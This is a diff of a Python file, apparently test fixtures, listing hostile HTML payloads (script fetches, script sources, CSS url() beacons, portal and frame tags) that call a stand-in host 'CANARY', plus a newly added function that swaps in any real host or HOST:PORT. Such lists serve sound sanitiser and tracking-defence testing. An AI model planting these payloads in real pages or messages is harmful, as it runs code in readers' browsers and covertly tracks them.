@@ -1,7 +1,5 @@
 """HTML that strangers send to run something or to learn that they were read. CANARY is where it would report to."""
 
-CANARY = "http://CANARY"
-
 HOSTILE = (
     "<script>fetch('http://CANARY/1')</script>",
     "<script src=http://CANARY/2></script>",
@@ -46,3 +44,8 @@ HOSTILE = (
     '<p style="color:red;border-image:url(http://CANARY/51.gif) 1;mask:url(http://CANARY/52.svg);filter:url(http://CANARY/53.svg#f)">x</p>',
     "<portal src='http://CANARY/54'></portal><frameset><frame src='http://CANARY/55'></frameset>",
 )
+
+
+def aimed_at(place: str) -> list[str]:
+    """Return all of it, reporting to a place (a name, or HOST:PORT)."""
+    return [html.replace("CANARY", place) for html in HOSTILE]
